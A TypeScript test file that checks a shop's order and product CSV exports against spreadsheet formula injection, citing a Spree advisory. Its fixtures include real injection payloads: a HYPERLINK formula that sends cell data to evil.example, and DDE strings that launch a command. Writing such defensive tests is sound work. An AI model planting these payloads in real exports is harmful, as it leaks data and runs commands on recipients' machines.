import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { placeOrder } from "#domain/checkout/checkout.ts";
import { ordersCsv } from "#src/cli/export/export-orders.ts";
import { productsCsv } from "#src/cli/export/export-products.ts";
import { csvLine, readCell, safeCell } from "#src/cli/import/product-csv.ts";
import { makeCheckout } from "#support/make-checkout.ts";
import { makeVariant } from "#support/make-variants.ts";
import { useTestShop } from "#support/test-shop.ts";

const shopOf = useTestShop();

const formulas = [
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=1+1","x',
  "'=1+1",
  "''=1+1",
  "-",
  "=",
];
/** What a spreadsheet runs: a cell that begins with one of these and is no plain number. */
const isRun = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

async function cellsOf(lines: AsyncIterable<string>): Promise<string[]> {
  let text = "";
  for await (const line of lines) text += line;
  return parse(text, { relax_column_count: true }).flat();
}

describe("an exported cell", () => {
  it.each(formulas)("runs nothing in a spreadsheet: %j (Spree GHSA-xf4v-w5x5-pv79)", (text) => {
    expect(isRun(safeCell(text))).toBe(false);
    const [cells] = parse(csvLine([safeCell(text), "next"])) as string[][];
    expect(cells).toEqual([safeCell(text), "next"]);
  });

  it("comes back as it was, whatever it holds (Spree GHSA-xf4v-w5x5-pv79, and its round trip)", () => {
    const signs = ["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " ", "\n", '"', ","];
    const texts = signs.flatMap((one) => signs.flatMap((two) => signs.flatMap((three) => [one, one + two, one + two + three])));
    for (const text of texts) {
      expect([text, readCell(safeCell(text))]).toEqual([text, text]);
      expect([text, isRun(safeCell(text))]).toEqual([text, false]);
    }
  });

  it("of an order is safe wherever a buyer may write: name, company, street, number of a purchase order (Spree GHSA-xf4v-w5x5-pv79)", async () => {
    const shop = shopOf();
    const evil = "=cmd|' /C calc'!A0";
    const address = { firstName: evil, lastName: evil, company: evil, address1: evil, address2: evil, city: evil };
    const made = await makeCheckout(shop, [await makeVariant(shop, { title: evil, sku: evil })], { address });
    await placeOrder(shop, made.shopper, made.request);
    const cells = await cellsOf(ordersCsv(shop));
    expect(cells.filter((cell) => cell.includes("calc")).length).toBeGreaterThan(5);
    expect(cells.filter(isRun)).toEqual([]);
  });

  it("of a product is safe wherever a file may have written, names of foreign columns too (Spree GHSA-xf4v-w5x5-pv79)", async () => {
    const shop = shopOf();
    const evil = "@SUM(1+1)";
    const variant = await makeVariant(shop, { title: evil, sku: evil });
    await shop.sql`update products set vendor = ${evil}, tags = ${[evil]}, seo_title = ${evil}, description_html = ${evil} where id = ${variant.productId}`;
    await shop.sql`update variants set extra = ${JSON.stringify({ [evil]: evil })}::jsonb, barcode = ${evil} where id = ${variant.id}`;
    const cells = await cellsOf(productsCsv(shop));
    expect(cells.filter((cell) => cell.includes("SUM")).length).toBeGreaterThan(7);
    expect(cells.filter(isRun)).toEqual([]);
  });
});
